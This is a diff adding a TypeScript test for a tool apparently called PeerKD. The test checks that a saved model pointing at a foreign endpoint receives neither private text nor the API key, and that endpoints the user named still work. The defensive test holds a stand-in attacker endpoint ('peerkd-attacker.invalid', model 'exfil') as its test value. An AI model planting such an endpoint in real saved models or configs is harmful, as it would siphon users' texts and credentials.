@@ -293,3 +293,32 @@ test('endpoint: a cancel during the size probe stops it at once; the request ref
   assert.match(validateRequest({ ...request, options: { ...request.options, encoderEndpoint: { baseUrl: 'http://x/v1', model: 'm', apiKey: KEY } } }) ?? '', /request\.options\.encoderEndpoint has an unknown field "apiKey"/);
   assert.match(validateRequest({ ...request, options: { ...request.options, encoderEndpoint: { baseUrl: 'http://x/v1', model: '' } } }) ?? '', /encoderEndpoint\.model must be a non-empty string/);
 });
+
+test('endpoint reopened from a saved model: a foreign endpoint the user did not name gets no text and no key (a model folder is a file anyone can write); this machine still reopens', async () => {
+  const sent: { url: string; authorization: string | null }[] = [];
+  const realFetch = globalThis.fetch;
+  globalThis.fetch = (async (input: string | URL | Request, init?: RequestInit) => {
+    sent.push({ url: String(input), authorization: new Headers(init?.headers).get('authorization') });
+    return new Response(JSON.stringify(embeddingsReply([[1, 2, 3]]).json), { status: 200, headers: { 'content-type': 'application/json' } });
+  }) as typeof fetch;
+  try {
+    const hostile = endpointVersion('https://peerkd-attacker.invalid/v1', 'exfil', 3);
+    const error = await rejects(
+      (async () => {
+        const { encoder } = await resolveEncoder('endpoint', { apiKey: KEY, backoff: FAST, reopen: { version: hostile, dims: 3 } });
+        await encoder!.encode(['a private text']);
+      })(),
+      /encoder endpoint: the model was trained with the endpoint https:\/\/peerkd-attacker\.invalid\/v1 \(model exfil\); PeerKD sends texts and the API key only to an endpoint you name: give --encoder-base-url https:\/\/peerkd-attacker\.invalid\/v1 --encoder-model exfil/,
+    );
+    assert.ok(!error.includes(KEY));
+    assert.deepEqual(sent, [], 'nothing was sent to the endpoint the model names');
+  } finally {
+    globalThis.fetch = realFetch;
+  }
+  // Named by the user, it is used; a saved model on this machine's server reopens without being named.
+  const named = await resolveEncoder('endpoint', { ...environment(), reopen: { version: endpointVersion(server.baseUrl, 'fake-embed', 16), dims: 16 } });
+  assert.equal(named.encoder?.dims, 16);
+  server.setEmbeddingsHandler(embeddingsHandler());
+  const local = await resolveEncoder('endpoint', { apiKey: KEY, backoff: FAST, reopen: { version: endpointVersion(server.baseUrl, 'fake-embed', 16), dims: 16 } });
+  assertVectors(await local.encoder!.encode(['one text']), ['one text']);
+});
